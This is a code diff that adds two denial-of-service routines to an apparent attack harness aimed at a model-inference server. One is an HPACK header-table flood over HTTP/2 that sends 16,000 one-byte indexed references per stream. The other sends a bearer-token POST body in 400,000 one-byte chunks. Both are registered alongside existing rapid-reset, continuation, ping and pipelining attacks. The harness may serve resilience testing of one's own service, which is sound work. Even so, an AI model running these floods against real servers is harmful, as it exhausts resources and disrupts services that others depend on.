@@ -166,6 +166,18 @@ def flood_continuations(target: AttackTarget, held: Held) -> None:
             connection.sendall(_frame(_CONTINUATION, 0, 1, _literal("x", "y" * 100) * 20))
 
 
+def flood_headers(target: AttackTarget, held: Held) -> None:
+    """Store a header of 4 KB in the table of HPACK and name it in one byte each, 16,000 times a stream."""
+    path = "/inference.GRPCInferenceService/ModelInfer"
+    # With incremental indexing; the length of the value is 127 + 33 + 30 * 128 (RFC 7541, 5.1 and 6.2.1).
+    stored = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
+    with _open_http2(target, target.grpc) as connection:
+        connection.sendall(_frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, _request_head(path) + stored))
+        for stream in range(3, 400, 2):
+            head = _request_head(path) + b"\xbe" * 16_000
+            connection.sendall(_frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, head))
+
+
 def flood_pings(target: AttackTarget, held: Held) -> None:
     """Send pings and settings and read no acknowledgement."""
     with _open_http2(target, target.grpc) as connection:
@@ -183,6 +195,15 @@ def hold_messages(target: AttackTarget, held: Held) -> None:
             connection.sendall(_frame(_HEADERS, _END_HEADERS, stream, head))
             connection.sendall(_frame(_DATA, 0, stream, b"\0" + struct.pack(">I", 8_000_000) + bytes(15_000)))
     held.keep(connection)
+
+
+def send_small_chunks(target: AttackTarget, held: Held) -> None:
+    """Send a body with the token in 400,000 chunks of one byte."""
+    head = f"POST /v2/models/m/infer HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\nTransfer-Encoding: chunked"
+    with _open_tls(target) as connection:
+        connection.sendall(head.encode() + b"\r\n\r\n")
+        for _ in range(400):
+            connection.sendall(b"1\r\n{\r\n" * 1000)
 
 
 def leave_answers_unread(target: AttackTarget, held: Held) -> None:
@@ -220,8 +241,10 @@ ATTACKS: dict[str, Strike] = {
     "large bodies": send_bodies_without_token,
     "rapid resets": reset_rapidly,
     "continuation flood": flood_continuations,
+    "header flood": flood_headers,
     "ping flood": flood_pings,
     "messages without end (token)": hold_messages,
+    "small chunks (token)": send_small_chunks,
     "unread answers (token)": leave_answers_unread,
     "pipelined requests (token)": pipeline_requests,
 }
